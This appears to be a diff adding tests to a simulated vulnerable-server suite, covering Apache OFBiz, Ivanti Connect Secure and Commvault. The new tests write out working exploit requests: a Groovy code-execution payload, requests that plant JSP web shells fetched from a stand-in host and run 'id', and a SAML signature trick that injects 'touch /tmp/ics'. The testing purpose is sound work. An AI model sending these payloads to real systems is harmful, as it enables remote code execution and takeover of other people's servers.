@@ -10,6 +10,9 @@ const machine = webMachine('ubuntu-web', [
   'hikvision',
   'spring-cloud-gateway',
   'oracle-ebs',
+  'ofbiz',
+  'ivanti-connect-secure',
+  'commvault',
 ]);
 
 it('TP-Link stores a country at first and runs it the second time (CVE-2023-1389)', () => {
@@ -75,4 +78,42 @@ it('Oracle E-Business Suite gives a token against forgery, and takes a return ad
   });
   expect(address.cves).toContain('CVE-2025-61882');
   expect(address.status).toBe(200);
+});
+
+it('OFBiz runs Groovy for whoever asks (CVE-2024-38856), and a page that it saved takes commands (CVE-2024-45195)', () => {
+  const visitor = stranger(machine);
+  const program = "groovyProgram=\\u0074hrow+new+Exception('id'.execute().text);";
+  const ran = visitor.form('/webtools/control/main/ProgramExport', program);
+  expect(ran.cves).toContain('CVE-2024-38856');
+  expect(ran.body).toMatch(/java\.lang\.Exception: uid=\d+\(/);
+  const saved = visitor.form(
+    '/webtools/control/forgotPassword/viewdatafile',
+    'DATAFILE_LOCATION=http://192.0.2.1/rce.csv&DATAFILE_SAVE=./applications/accounting/webapp/accounting/index.jsp&DATAFILE_IS_URL=true&DEFINITION_LOCATION=http://192.0.2.1/s.xml&DEFINITION_NAME=rce',
+  );
+  expect(saved.cves).toContain('CVE-2024-45195');
+  expect(visitor.get('/accounting/index.jsp?cmd=id').body).toMatch(id);
+  expect(stranger(machine).get('/accounting/index.jsp?cmd=id').body).not.toMatch(id);
+});
+
+it('Ivanti Connect Secure asks its own licence service what a signature names (CVE-2024-21893)', () => {
+  const visitor = stranger(machine);
+  const uri = 'http://127.0.0.1:8090/api/v1/license/keys-status/%3Btouch%20%2Ftmp%2Fics%3B';
+  const body = `<?xml version="1.0"?><soap:Envelope><soap:Body><ds:Signature><ds:KeyInfo><ds:RetrievalMethod URI="${uri}"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>`;
+  const sent = visitor.send('POST', '/dana-ws/saml20.ws', { 'Content-Type': 'text/xml' }, body);
+  expect(sent.cves).toContain('CVE-2024-21893');
+  expect(sent.facts).toContainEqual(expect.objectContaining({ kind: 'command', input: 'touch /tmp/ics' }));
+  expect(visitor.get('/dana-na/auth/url_admin/welcome.cgi?type=inter').body).toMatch(
+    /NAME="ProductVersion" VALUE="22\.\d/,
+  );
+});
+
+it('Commvault deploys a package whose pages are then called (CVE-2025-34028)', () => {
+  const visitor = stranger(machine);
+  const sent = visitor.form(
+    '/commandcenter/deployWebpackage.do',
+    'commcellName=192.0.2.1:443&servicePack=../../Reports/MetricsUpload/shell/.t4711/dist-cc.zip&version=a',
+  );
+  expect(sent.cves).toContain('CVE-2025-34028');
+  expect(visitor.get('/reports/MetricsUpload/shell/.t4711/dist-cc/s.jsp?cmd=id').body).toMatch(id);
+  expect(visitor.get('/reports/MetricsUpload/shell/other/s.jsp?cmd=id').body).not.toMatch(id);
 });
